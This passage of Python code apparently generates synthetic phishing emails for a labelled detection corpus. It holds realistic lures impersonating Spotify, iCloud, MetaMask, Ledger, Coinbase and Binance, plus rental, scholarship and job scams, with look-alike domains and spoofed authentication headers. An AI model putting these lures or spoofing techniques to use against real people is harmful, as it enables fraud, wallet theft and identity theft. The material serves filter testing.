Tentamos cobrar sua assinatura do <b>Spotify Premium Individual</b>, mas o pagamento n&atilde;o foi aprovado. Seu Premium ser&aacute; pausado e suas playlists baixadas ser&atilde;o removidas.<br /><br />
Atualize seus dados de pagamento para continuar ouvindo sem an&uacute;ncios.</td></tr>
<tr><td style="padding:10px 0 30px 0;"><a href="{url}" style="background:#1ed760;color:#000000;padding:14px 32px;border-radius:500px;text-decoration:none;font-weight:bold;font-size:14px;">ATUALIZAR PAGAMENTO</a></td></tr>
<tr><td style="padding:20px 0;font-size:11px;color:#6a6a6a;border-top:1px solid #e0e0e0;">Spotify AB, Regeringsgatan 19, 111 53, Estocolmo, Su&eacute;cia</td></tr>
</table></td></tr></table></body>""", "Spotify")
    plain = ("Não foi possível processar seu pagamento\n\nOlá,\n\nTentamos cobrar sua assinatura do Spotify Premium "
             "Individual, mas o pagamento não foi aprovado.\nAtualize seus dados de pagamento: "
             f"{url}\n\nSpotify AB\n")
    headers = [
        f"Received: from padariasaojorge.com.br (localhost [127.0.0.1])\n\tby mail.padariasaojorge.com.br (Postfix) with ESMTPA id 9C{hx(seed + 'q', 9).upper()}\n"
        f"\tfor <{rcpt}>; {rfc(plus(when, -1), '-0300')}",
        "MIME-Version: 1.0",
        f"Date: {rfc(when, '-0300')}",
        f"From: Spotify <contato@{dom}>",
        f"To: {rcpt}",
        f"Subject: {enc('Seu Premium foi pausado - atualize seu pagamento')}",
        f"Message-ID: <{hx(seed + 'mid', 32)}@{dom}>",
        "X-Sender: contato@padariasaojorge.com.br",
        "User-Agent: Roundcube Webmail/1.6.6",
    ]
    body = Multi("alternative", f"=_{hx(seed + 'b', 32)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "icloud-storage-full-image-gcs",
        "Image-only 'iCloud storage is full, your photos will be deleted' lure from a throwaway domain with no DKIM: "
        "one clickable picture linking to a Google Cloud Storage page, almost no text.")
def icloud_storage_image():
    seed = "b31-icloudimg"
    when = utc("2025-07-08 06:03:55")
    rcpt = "sofia.benitez@icloud.com"
    dom = "bkw-devmail.xyz"
    a = Auth("45.141.215.83", "vps83.bkw-devmail.xyz", f"info@{dom}", "pass", [], None, header_from=dom, seed=seed)
    url = "https://storage.googleapis.com/icl0ud-str-8812/index.html#sofia.benitez@icloud.com"
    img = banner_png([
        ("iCloud", (60, 60, 60)),
        ("Your iCloud storage is full", (0, 0, 0)),
        ("5 GB of 5 GB used - 2,847 photos and videos will be deleted", (200, 30, 30)),
        ("Upgrade now: get 50 GB FREE with your loyalty reward", (0, 0, 0)),
        ("[ Get 50 GB Now ]", (0, 113, 227)),
    ])
    html = (f'<html><body style="margin:0;padding:20px;background:#ffffff;"><center>'
            f'<a href="{url}"><img src="cid:img_{hx(seed + "cid", 10)}@bkw" width="600" height="260" '
            'alt="Your iCloud storage is full" border="0" style="display:block;" /></a>'
            '<p style="font-family:Arial;font-size:10px;color:#aaaaaa;">If you no longer wish to receive these emails, '
            f'<a href="{url}" style="color:#aaaaaa;">unsubscribe</a>.</p></center></body></html>\n')
    headers = [
        f"Received: by vps83.bkw-devmail.xyz (Postfix, from userid 33)\n\tid 3F1{hx(seed + 'q', 9).upper()}; {rfc(plus(when, -1))}",
        f"To: {rcpt}",
        f"Subject: {enc('⚠️ Sofia, your photos will be deleted today')}",
        f"Date: {rfc(when)}",
        "From: iCloud <info@bkw-devmail.xyz>",
        f"Message-ID: <{hx(seed + 'mid', 32)}@{dom}>",
        "X-Mailer: PHPMailer 6.5.0 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ]
    body = related(f"b1_{hx(seed + 'b', 32)}", text(html, "html"),
                   attachment("image/png", "storage.png", img, inline=True, cid=f"img_{hx(seed + 'cid', 10)}@bkw"))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


# ============================================================================================
# attacks: crypto, money scams, account alerts
# ============================================================================================

def workspace_out(seed: str, when: datetime, rcpt: str, from_addr: str) -> tuple[list[str], Auth]:
    """A message leaving a Google Workspace domain."""
    domain = from_addr.split("@")[1]
    lines, a = gmail_out(seed, when, rcpt, from_addr)
    ts = int(when.timestamp())
    lines[1] = dkim(domain, "google", seed, when, h="mime-version:from:date:message-id:subject:to",
                    extra=f" x={ts + 604800}; darn={rcpt.split('@')[1]};")
    a.dkim = [(domain, "google", "pass")]
    a.header_from = domain
    return lines, a


def proton_out(seed: str, when: datetime, from_addr: str) -> tuple[list[str], Auth, str]:
    n = num(seed + "pn", 16, 30)
    ip = f"185.70.43.{n}"
    helo = f"mail-4{n}.protonmail.ch"
    a = Auth(ip, helo, from_addr, "pass", [("proton.me", "protonmail", "pass")], "pass", "quarantine", "proton.me", seed)
    mid = f"<{rnd(seed + 'pmid', 86, B62 + '_-')}=@proton.me>"
    lines = [dkim("proton.me", "protonmail", seed, when,
                  h="From:To:Subject:Message-ID:Feedback-ID:Date:MIME-Version:Content-Type"),
             f"X-Pm-Submission-Id: 4{rnd(seed + 'psid', 11)}"]
    return lines, a, mid


@sample("phishing", "phish", "metamask-verification-ipfs",
        "MetaMask 'mandatory wallet verification' notice from the look-alike metamask-walletcare.com, linking to a page "
        "on a public IPFS gateway that asks for the 12-word recovery phrase.")
def metamask_ipfs():
    seed = "b31-metamask"
    when = utc("2025-01-14 10:48:33")
    rcpt = "kevin.osei@proton.me"
    dom = "metamask-walletcare.com"
    a = Auth("91.215.85.140", "mx.metamask-walletcare.com", f"no-reply@{dom}", "pass", [(dom, "s2025", "pass")], None,
             header_from=dom, seed=seed)
    url = "https://ipfs.io/ipfs/bafybeigk3x7qzq4v2m5wnd6tr4uj7h3fk2pbl5c6s7yoaeiv3rjq4dmx5e/index.html#kevin.osei@proton.me"
    html = html_page(f"""<body style="margin:0;background:#f2f4f6;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:30px 0;">
<table width="560" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;border-radius:10px;font-family:Euclid Circular B,Helvetica,Arial,sans-serif;">
<tr><td align="center" style="padding:32px 0 10px 0;"><img src="https://images.ctfassets.net/clixtyxoaeas/4rnpEzy1ATWRKVBOLxZ1Fm/a74dc1eed36d23d7ea6030383a4d5163/MetaMask-icon-fox.svg" width="64" alt="MetaMask" /></td></tr>
<tr><td align="center" style="padding:0 40px;font-size:22px;font-weight:bold;color:#24272a;">Wallet verification required</td></tr>
<tr><td style="padding:20px 40px;font-size:15px;color:#535a61;line-height:23px;">
Dear MetaMask user,<br /><br />
Due to new regulatory requirements (EU MiCA and US FinCEN), all self-custody wallets must complete a one-time ownership verification by <b>January 17, 2025</b>.<br /><br />
Unverified wallets will be restricted from sending, swapping and bridging assets. Verification takes less than 2 minutes and does not affect your funds.</td></tr>
<tr><td align="center" style="padding:10px 0 34px 0;"><a href="{url}" style="background:#037dd6;color:#ffffff;padding:13px 34px;border-radius:100px;text-decoration:none;font-size:15px;font-weight:bold;">Verify my wallet</a></td></tr>
<tr><td align="center" style="padding:16px 40px;font-size:11px;color:#9fa6ae;border-top:1px solid #eeeeee;">&copy; 2025 MetaMask &bull; A Consensys Formation</td></tr>
</table></td></tr></table></body>""", "MetaMask")
    plain = ("Wallet verification required\n\nDear MetaMask user,\n\nAll self-custody wallets must complete a one-time ownership "
             "verification by January 17, 2025. Unverified wallets will be restricted from sending, swapping and bridging.\n\n"
             f"Verify my wallet: {url}\n\n(c) 2025 MetaMask\n")
    headers = [
        f"Received: from localhost (localhost [127.0.0.1])\n\tby mx.metamask-walletcare.com (Postfix) with ESMTPSA id 4YX{rnd(seed + 'q', 7)}\n"
        f"\tfor <{rcpt}>; {rfc(plus(when, -1))}",
        dkim(dom, "s2025", seed, when),
        "MIME-Version: 1.0",
        f"Date: {rfc(when)}",
        f"From: MetaMask <no-reply@{dom}>",
        f"To: {rcpt}",
        "Subject: [Action Required] Verify your wallet before January 17",
        f"Message-ID: <{hx(seed + 'mid', 24)}.{num(seed + 'mn', 100000, 999999)}@{dom}>",
    ]
    body = Multi("alternative", f"=_{hx(seed + 'b', 32)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "ledger-firmware-lookalike",
        "Ledger 'security incident - update your device firmware' mail from the look-alike ledger-livesupport.com, "
        "which has its own DMARC record and passes; the link leads to a fake Ledger Live download/recovery page.")
def ledger_lookalike():
    seed = "b31-ledger"
    when = utc("2025-09-02 07:31:18")
    rcpt = "t.becker.crypto@gmail.com"
    dom = "ledger-livesupport.com"
    a = Auth("193.233.132.57", "mail.ledger-livesupport.com", f"security@{dom}", "pass", [(dom, "ledger", "pass")],
             "pass", "reject", dom, seed)
    url = f"https://www.{dom}/en/update?device=nanox&amp;id=LD-77210"
    html = html_page(f"""<body style="margin:0;background:#000000;">
<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#000000"><tr><td align="center" style="padding:30px 0;">
<table width="560" cellpadding="0" cellspacing="0" border="0" style="font-family:Inter,Helvetica,Arial,sans-serif;color:#ffffff;">
<tr><td style="padding:0 0 30px 0;font-size:26px;font-weight:bold;letter-spacing:2px;">LEDGER</td></tr>
<tr><td style="font-size:22px;font-weight:bold;padding-bottom:16px;">Important security update for your Ledger device</td></tr>
<tr><td style="font-size:15px;line-height:23px;color:#c3c3c3;">
Dear customer,<br /><br />
Our security team has identified a vulnerability affecting Ledger Nano S Plus and Nano X devices running firmware older than 2.4.1. Attackers may be able to extract signing keys when the device is connected to a compromised computer.<br /><br />
To keep your assets safe, download the latest Ledger Live version and follow the on-screen steps to migrate your wallet. <b>Devices that are not updated within 72 hours will be blocked from signing transactions.</b></td></tr>
<tr><td style="padding:30px 0;"><a href="{url}" style="background:#bbb0ff;color:#000000;padding:14px 30px;border-radius:30px;text-decoration:none;font-weight:bold;">Update now</a></td></tr>
<tr><td style="font-size:11px;color:#7a7a7a;padding-top:20px;">Ledger SAS, 106 rue du Temple, 75003 Paris, France. Ledger will never ask for your 24-word recovery phrase by email.</td></tr>
</table></td></tr></table></body>""", "Ledger")
    plain = ("Important security update for your Ledger device\n\nOur security team has identified a vulnerability affecting "
             "Ledger Nano S Plus and Nano X devices. Download the latest Ledger Live version and migrate your wallet within "
             f"72 hours.\n\nUpdate now: https://www.{dom}/en/update?device=nanox&id=LD-77210\n\nLedger SAS\n")
    headers = [
        f"Received: from [185.234.216.119] (unknown [185.234.216.119])\n\tby mail.ledger-livesupport.com (Postfix) with ESMTPSA id 4cGq{rnd(seed + 'q', 6)}\n"
        f"\tfor <{rcpt}>; {rfc(plus(when, -1), '+0200')}",
        dkim(dom, "ledger", seed, when),
        f"Message-ID: <{uuid(seed)}@{dom}>",
        f"Date: {rfc(when, '+0200')}",
        "MIME-Version: 1.0",
        f"From: Ledger <security@{dom}>",
        f"To: {rcpt}",
        "Subject: Security update required for your Ledger Nano",
    ]
    body = Multi("alternative", f"------------{rnd(seed + 'tb', 24)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "phantom-airdrop-mailchimp-notion",
        "Phantom/Solana 'claim your airdrop' campaign blasted through the hijacked Mailchimp account of a small crypto "
        "project (passes DKIM/SPF/DMARC for that project), tracked link to a Notion page that sends the victim to a "
        "wallet drainer.")
def phantom_airdrop():
    seed = "b31-phantom"
    when = utc("2025-04-22 17:00:12")
    rcpt = "samir.haddad@icloud.com"
    dom = "solstice-dao.xyz"
    ip = f"198.2.{num(seed + 'mc', 128, 191)}.{num(seed + 'mc2', 2, 250)}"
    helo = f"mail{num(seed + 'mch', 10, 250)}.suw{num(seed + 'mcs', 11, 161)}.mcdlv.net"
    mf = f"bounce-mc.us21_88317245.{num(seed + 'cid', 100000, 999999)}-{rcpt.replace('@', '=')}@mail{num(seed + 'mch', 10, 250)}.suw{num(seed + 'mcs', 11, 161)}.mcdlv.net"
    a = Auth(ip, helo, mf, "pass", [(dom, "k2", "pass"), ("mailchimpapp.net", "k2", "pass")], "pass", "none", dom, seed)
    u, cid = "6a9f2c1e8b4d7a3f5e0c9b21d", hx(seed + "id", 10)
    track = f"https://{dom.split('.')[0]}.us21.list-manage.com/track/click?u={u}&amp;id={cid}&amp;e={hx(seed + 'e', 10)}"
    html = html_page(f"""<body style="margin:0;padding:0;background:#1c1c1c;">
<center><table width="100%" cellpadding="0" cellspacing="0" border="0" style="max-width:600px;background:#ab9ff2;font-family:Helvetica,Arial,sans-serif;">
<tr><td align="center" style="padding:34px 20px 10px 20px;"><img src="https://mcusercontent.com/6a9f2c1e8b4d7a3f5e0c9b21d/images/phantom_ghost_white.png" width="72" alt="Phantom" /></td></tr>
<tr><td align="center" style="padding:10px 30px;color:#1c1c1c;font-size:30px;font-weight:bold;">The $PHNTM airdrop is live</td></tr>
<tr><td align="center" style="padding:10px 44px;color:#1c1c1c;font-size:16px;line-height:24px;">
To thank our earliest users, 1.2% of the $PHNTM supply is reserved for wallets that used Phantom before March 2025. Your wallet is <b>eligible</b>.<br /><br />
Claims close in <b>48 hours</b>. Unclaimed tokens go back to the community treasury.</td></tr>
<tr><td align="center" style="padding:22px 0 36px 0;"><a href="{track}" style="background:#1c1c1c;color:#ffffff;padding:15px 40px;border-radius:28px;text-decoration:none;font-size:16px;font-weight:bold;">Check eligibility &amp; claim</a></td></tr>
<tr><td align="center" style="padding:20px;background:#1c1c1c;color:#8c8c8c;font-size:11px;line-height:16px;">
You are receiving this email because you opted in via our website.<br />
<a href="https://{dom.split('.')[0]}.us21.list-manage.com/unsubscribe?u={u}&amp;id={hx(seed + 'lid', 10)}&amp;e={hx(seed + 'e', 10)}&amp;c={cid}" style="color:#8c8c8c;">unsubscribe from this list</a> &middot; <a href="https://{dom.split('.')[0]}.us21.list-manage.com/profile?u={u}&amp;id={hx(seed + 'lid', 10)}&amp;e={hx(seed + 'e', 10)}" style="color:#8c8c8c;">update subscription preferences</a><br />
Solstice DAO &middot; 1000 N West Street, Suite 1200 &middot; Wilmington, DE 19801 &middot; USA</td></tr>
</table></center>
<img src="https://{dom.split('.')[0]}.us21.list-manage.com/track/open.php?u={u}&amp;id={cid}&amp;e={hx(seed + 'e', 10)}" height="1" width="1" alt="" /></body>""", "The $PHNTM airdrop is live")
    plain = ("The $PHNTM airdrop is live\n\nTo thank our earliest users, 1.2% of the $PHNTM supply is reserved for wallets "
             "that used Phantom before March 2025. Your wallet is eligible.\nClaims close in 48 hours.\n\n"
             f"Check eligibility & claim ( {track.replace('&amp;', '&')} )\n\n"
             "Page: https://phantom-claims.notion.site/PHNTM-Airdrop-Claim-1d4f8a2b9c7e4f01b3a65d2e8c9f0a17\n\n"
             "Solstice DAO, 1000 N West Street, Suite 1200, Wilmington, DE 19801\n")
    headers = [
        dkim("mailchimpapp.net", "k2", seed + "mc", when, h="Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:Content-Type:MIME-Version:CC"),
        dkim(dom, "k2", seed, when, h="Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:Content-Type:MIME-Version:CC"),
        f"Received: from localhost (localhost [127.0.0.1])\n\tby {helo} (Mailchimp) with ESMTP id 4Zhx{rnd(seed + 'q', 6)}\n"
        f"\tfor <{rcpt}>; {rfc(plus(when, -2))}",
        f"Subject: {enc('👻 Your $PHNTM airdrop is ready to claim')}",
        f"From: Phantom <hello@{dom}>",
        f"Reply-To: Phantom <hello@{dom}>",
        f"To: <{rcpt}>",
        f"Date: {rfc(when)}",
        f"Message-ID: <{hx(seed + 'm1', 25)}.{hx(seed + 'm2', 10)}.{hx(seed + 'm3', 10)}.{hx(seed + 'm4', 10)}@mail{num(seed + 'mch', 10, 250)}.suw{num(seed + 'mcs', 11, 161)}.mcdlv.net>",
        f"X-Mailer: MailChimp Mailer - **CID{cid}{hx(seed + 'e', 10)}**",
        f"X-Campaign: mailchimp{u}.{cid}",
        f"X-campaignid: mailchimp{u}.{cid}",
        f"X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={u}&id={cid}&e={hx(seed + 'e', 10)}",
        f"X-MC-User: {u}",
        f"Feedback-ID: 88317245:88317245.{num(seed + 'fb', 1000000, 9999999)}:us21:mc",
        f"List-ID: {u}mc list <{u}.{num(seed + 'lst', 100000, 999999)}.list-id.mcsv.net>",
        "X-Accounttype: pd",
        *unsub(f"https://{dom.split('.')[0]}.us21.list-manage.com/unsubscribe?u={u}&id={hx(seed + 'lid', 10)}&e={hx(seed + 'e', 10)}&c={cid}",
               f"unsubscribe-mc.us21_{u}.{cid}-{hx(seed + 'e', 10)}@unsubscribe.mailchimpapp.net"),
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"_----------=_MCPart_{num(seed + 'part', 10**8, 10**9)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 3), a), headers), body)


@sample("phishing", "phish", "coinbase-withdrawal-callback-proton",
        "Coinbase 'withdrawal of 0.4817 BTC requested - call us if this wasn't you' from a Proton Mail account: no "
        "link at all, only a phone number that reaches fake support who talk the victim into moving funds.")
def coinbase_callback():
    seed = "b31-coinbasecall"
    when = utc("2025-05-27 03:14:52")
    rcpt = "danielle.ford88@outlook.com"
    sender = "cb.account.protection@proton.me"
    out, a, mid = proton_out(seed, when, sender)
    phone = "+1 (877) 402-1187"
    html = ('<div style="font-family: Arial, sans-serif; font-size: 14px;"><div style="max-width:520px">'
            '<p style="font-size:22px;color:#0052ff;font-weight:bold;margin:0 0 14px 0;">coinbase</p>'
            '<p style="font-size:18px;font-weight:bold;">Withdrawal request received</p>'
            '<p>We received a request to withdraw <b>0.4817 BTC</b> (~$52,310.44 USD) from your Coinbase account to the '
            'external address <span style="font-family:monospace;">bc1q8d4xq0w7r2n5k3jz9t6m0vyl4c8hsf2p7uexa3</span>.</p>'
            '<p>Request time: May 27, 2025 03:09 UTC<br>Device: Windows 11 &middot; Chrome 136<br>Location: Lagos, NG '
            '(IP 102.89.34.201)</p>'
            f'<p><b>If you did not make this request</b>, call Coinbase Account Protection immediately at <b>{phone}</b> '
            'and give the agent case ID <b>CB-7741-2093</b>. The withdrawal will be processed automatically in 30 minutes.</p>'
            '<p style="color:#5b616e;font-size:12px;">Coinbase, Inc. &middot; 248 3rd St #434, Oakland, CA 94607</p></div></div>\n')
    plain = ("coinbase\n\nWithdrawal request received\n\nWe received a request to withdraw 0.4817 BTC (~$52,310.44 USD) from "
             "your Coinbase account to bc1q8d4xq0w7r2n5k3jz9t6m0vyl4c8hsf2p7uexa3.\n\nRequest time: May 27, 2025 03:09 UTC\n"
             f"Location: Lagos, NG\n\nIf you did not make this request, call Coinbase Account Protection immediately at "
             f"{phone} and give the agent case ID CB-7741-2093. The withdrawal will be processed automatically in 30 minutes.\n")
    headers = [
        *out,
        f"Date: {rfc(when)}",
        f"To: {rcpt}",
        f"From: Coinbase Account Protection <{sender}>",
        "Subject: Withdrawal request: 0.4817 BTC - Case CB-7741-2093",
        f"Message-ID: {mid}",
        f"Feedback-ID: {rnd(seed + 'fid', 86, B62 + '_-')}==:Ext:ProtonMail",
        f"X-Pm-Message-ID: {hx(seed + 'pmmid', 40)}",
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"b1=_{rnd(seed + 'b', 43)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "binance-es-login-shortener",
        "Spanish Binance 'inicio de sesión desde un dispositivo nuevo - cuenta bloqueada' alert sent with SendGrid from "
        "the look-alike binance-avisos.com, whose button is a bit.ly shortener leading to a fake Binance login.")
def binance_es():
    seed = "b31-binance-es"
    when = utc("2025-11-11 21:37:05")
    rcpt = "alejandro.vg.crypto@gmail.com"
    dom = "binance-avisos.com"
    ip, helo, sg = sendgrid_hops(seed, when, "o12.ptr7731.binance-avisos.com")
    mf = f"bounces+37719402-a3f1-{rcpt.replace('@', '=')}@em2290.{dom}"
    a = Auth(ip, helo, mf, "pass", [(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass", "none", dom, seed)
    url = "https://bit.ly/4fKq2Zx"
    html = html_page(f"""<body style="margin:0;background:#fafafa;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:24px 0;">
<table width="560" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:BinancePlex,Arial,sans-serif;">
<tr><td style="background:#181a20;padding:20px 32px;color:#f0b90b;font-size:22px;font-weight:bold;">BINANCE</td></tr>
<tr><td style="padding:26px 32px 6px 32px;font-size:20px;font-weight:bold;color:#1e2329;">Inicio de sesi&oacute;n desde un dispositivo nuevo</td></tr>
<tr><td style="padding:10px 32px;font-size:14px;line-height:22px;color:#474d57;">
Hemos detectado un inicio de sesi&oacute;n en tu cuenta desde un dispositivo no reconocido:<br /><br />
Hora: 2025-11-11 21:31:48 (UTC)<br />Dispositivo: Android 14 &middot; Binance App<br />Ubicaci&oacute;n: Kyiv, UA<br />IP: 91.196.177.24<br /><br />
Por seguridad, hemos <b>bloqueado temporalmente las retiradas</b> durante 24 horas. Si no has sido t&uacute;, verifica tu identidad de inmediato para proteger tus fondos.</td></tr>
<tr><td style="padding:16px 32px 30px 32px;"><a href="{url}" style="background:#fcd535;color:#181a20;padding:12px 28px;border-radius:4px;text-decoration:none;font-weight:bold;font-size:14px;">Proteger mi cuenta</a></td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#929aa5;border-top:1px solid #eaecef;">Equipo de Binance<br />Este es un mensaje autom&aacute;tico, por favor no respondas.</td></tr>
</table></td></tr></table>
<img src="https://u37719402.ct.sendgrid.net/wf/open?upn=u001.{rnd(seed + 'open', 110, B62 + '-')}" alt="" width="1" height="1" border="0" /></body>""", "Binance")
    plain = ("BINANCE\n\nInicio de sesión desde un dispositivo nuevo\n\nHora: 2025-11-11 21:31:48 (UTC)\nUbicación: Kyiv, UA\n\n"
             "Hemos bloqueado temporalmente las retiradas durante 24 horas. Si no has sido tú, verifica tu identidad:\n"
             f"{url}\n\nEquipo de Binance\n")
    headers = [
        *sg,
        dkim(dom, "s1", seed, when, h="content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to"),
        dkim("sendgrid.info", "smtpapi", seed + "sg", when,
             h="content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to"),
        f"Date: {rfc(when)}",
        f"From: Binance <do-not-reply@{dom}>",
        "MIME-Version: 1.0",
        f"Message-ID: {sg_msgid(seed)}",
        f"Subject: {enc('[Binance] Inicio de sesión desde un dispositivo nuevo - retiradas bloqueadas')}",
        "X-Feedback-ID: 37719402:SG",
        f"X-SG-EID:\n =?us-ascii?Q?{rnd(seed + 'eid', 60, B62)}?=",
        f"To: {rcpt}",
        "X-Entity-ID: u001.b3Fq0xLxT9Rr2YkU1jW7pg==",
    ]
    body = alt(seed, plain, html, hx(seed + "bd", 64))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "wg-zimmer-de-airbnb-deposit",
        "German rental scam: reply from a Gmail 'landlord abroad' to a student's flat inquiry, asking for a 1,450 EUR "
        "deposit and first rent through a fake 'Airbnb payment service' before the keys are mailed (advance-payment fraud).")
def housing_de():
    seed = "b31-wohnung"
    when = utc("2025-08-26 09:22:47")
    rcpt = "jonas.weber.96@gmail.com"
    sender = "katharina.lindqvist.home@gmail.com"
    out, a = gmail_out(seed, when, rcpt, sender)
    paras = [
        "Hallo Jonas,", "",
        "vielen Dank für Ihr Interesse an meiner Wohnung in der Simon-Dach-Straße (2 Zimmer, 54 m², möbliert, 780 € warm).", "",
        "Leider lebe und arbeite ich seit letztem Jahr in Göteborg und kann für eine Besichtigung nicht nach Berlin kommen. "
        "Deshalb vermiete ich die Wohnung über den Zahlungsservice von Airbnb: Sie überweisen die Kaution (670 €) und die "
        "erste Monatsmiete (780 €), also insgesamt <b>1.450 €</b>, an Airbnb. Airbnb hält das Geld, bis Sie die Wohnung "
        "gesehen haben. Erst dann wird es an mich ausgezahlt.", "",
        "Die Schlüssel schicke ich Ihnen mit DHL Express, nachdem Airbnb mir die Zahlung bestätigt hat. Wenn Ihnen die "
        "Wohnung nicht gefällt, schicken Sie die Schlüssel zurück und bekommen Ihr Geld vollständig zurück.", "",
        "Wenn Sie einverstanden sind, senden Sie mir bitte Ihren vollständigen Namen, Ihre Adresse und eine Kopie Ihres "
        "Personalausweises, dann erstelle ich die Buchung und Sie erhalten die Zahlungsanweisung direkt von Airbnb.", "",
        "Viele Grüße", "Katharina Lindqvist", "",
        '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">Am Mo., 25. Aug. 2025 um 21:14 Uhr schrieb Jonas Weber '
        f'&lt;<a href="mailto:{rcpt}">{rcpt}</a>&gt;:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px '
        '0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Hallo, ich bin 24, Masterstudent an der TU und '
        'interessiere mich sehr für Ihre Wohnung in Friedrichshain. Wäre eine Besichtigung diese Woche möglich?<br>Viele '
        'Grüße, Jonas</blockquote></div>',
    ]
    plain = ("Hallo Jonas,\n\nvielen Dank für Ihr Interesse an meiner Wohnung in der Simon-Dach-Straße (2 Zimmer, 54 m², "
             "möbliert, 780 € warm).\n\nLeider lebe und arbeite ich seit letztem Jahr in Göteborg und kann für eine "
             "Besichtigung nicht nach Berlin kommen. Deshalb vermiete ich die Wohnung über den Zahlungsservice von Airbnb: "
             "Sie überweisen die Kaution (670 €) und die erste Monatsmiete (780 €), also insgesamt 1.450 €, an Airbnb.\n\n"
             "Die Schlüssel schicke ich Ihnen mit DHL Express, nachdem Airbnb mir die Zahlung bestätigt hat.\n\n"
             "Wenn Sie einverstanden sind, senden Sie mir bitte Ihren vollständigen Namen, Ihre Adresse und eine Kopie Ihres "
             "Personalausweises.\n\nViele Grüße\nKatharina Lindqvist\n\n"
             f"Am Mo., 25. Aug. 2025 um 21:14 Uhr schrieb Jonas Weber <{rcpt}>:\n\n> Hallo, ich bin 24, Masterstudent an "
             "der TU und interessiere mich sehr für Ihre Wohnung in Friedrichshain.\n> Wäre eine Besichtigung diese Woche "
             "möglich?\n> Viele Grüße, Jonas\n")
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"References: <CAHx{rnd(seed + 'ref', 40, B62 + '_-')}@mail.gmail.com>",
        f"In-Reply-To: <CAHx{rnd(seed + 'ref', 40, B62 + '_-')}@mail.gmail.com>",
        f"From: Katharina Lindqvist <{sender}>",
        f"Date: {rfc(plus(when, -2), '+0200')}",
        f"Message-ID: {gmail_msgid(seed)}",
        f"Subject: {enc('Re: Anfrage: 2-Zimmer-Wohnung Friedrichshain ab 01.10.')}",
        f"To: Jonas Weber <{rcpt}>",
    ]
    return message(hdr(deliver(rcpt, plus(when, 1), a, google_sender=True), headers), alt(seed, plain, gmail_html(paras)))


@sample("phishing", "phish", "scholarship-award-processing-fee",
        "'You have been awarded the Global Future Leaders Scholarship ($7,500)' sent to a student's university mailbox "
        "from a sham foundation on Google Workspace (its own checks pass), asking for an $85 'processing fee' by card "
        "on the foundation's site or by Zelle.")
def scholarship_fee():
    seed = "b31-scholar"
    when = utc("2025-03-04 15:26:09")
    rcpt = "amara.okonkwo@my.ridgemont.edu"
    sender = "awards@gflfoundation.org"
    out, a = workspace_out(seed, when, rcpt, sender)
    url = "https://gflfoundation.org/award/claim?ref=GFL25-0918"
    paras = [
        "Dear Amara Okonkwo,", "",
        "Congratulations! On behalf of the selection committee, we are pleased to inform you that you have been selected "
        "as a recipient of the <b>2025 Global Future Leaders Scholarship</b> in the amount of <b>$7,500.00</b> for the "
        "2025-2026 academic year.", "",
        "Your name was submitted through our partner network of US universities based on your academic record and "
        "extracurricular involvement.", "",
        "To release the award, a one-time, non-refundable <b>processing and verification fee of $85.00</b> must be paid "
        "by <b>March 10, 2025</b>. You can pay securely by card on our award portal or via Zelle to "
        "payments@gflfoundation.org.", "",
        f'<a href="{url}">Claim your scholarship award</a>', "",
        "Once the fee is received, the funds will be disbursed directly to your bank account within 5 business days.", "",
        "Warm regards,", "Dr. Helen M. Carter", "Director of Awards, Global Future Leaders Foundation",
        "1250 Connecticut Ave NW, Suite 700, Washington, DC 20036",
    ]
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "").replace(f'<a href="{url}">Claim your scholarship award</a>',
                                                                          f"Claim your scholarship award: {url}") for p in paras) + "\n"
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"From: Global Future Leaders Foundation <{sender}>",
        f"Date: {rfc(plus(when, -2), '-0500')}",
        f"Message-ID: {gmail_msgid(seed)}",
        "Subject: Congratulations! 2025 Global Future Leaders Scholarship Award Notification",
        f"To: {rcpt}",
    ]
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), alt(seed, plain, gmail_html(paras)))


@sample("phishing", "phish", "task-job-es-whatsapp",
        "Spanish 'trabajo remoto: gana 300 EUR al día dando me gusta a vídeos' task-scam recruitment from a free Outlook "
        "account posing as a staffing agency, pushing the student to a WhatsApp number (the task scam that ends in "
        "'deposits').")
def task_job_es():
    seed = "b31-taskjob"
    when = utc("2025-10-29 10:05:31")
    rcpt = "diego.ramirez@alumnos.uvc.es"
    sender = "seleccion.rrhh.remoto@outlook.es"
    out, a, mid = outlook_consumer_out(seed, when, sender)
    wa = "https://wa.me/34613058274?text=Hola%2C%20quiero%20informaci%C3%B3n%20sobre%20el%20empleo"
    paras = [
        "Hola,", "",
        "Somos el departamento de Recursos Humanos de <b>Talentia Digital Group</b>. Hemos visto tu perfil en un portal de "
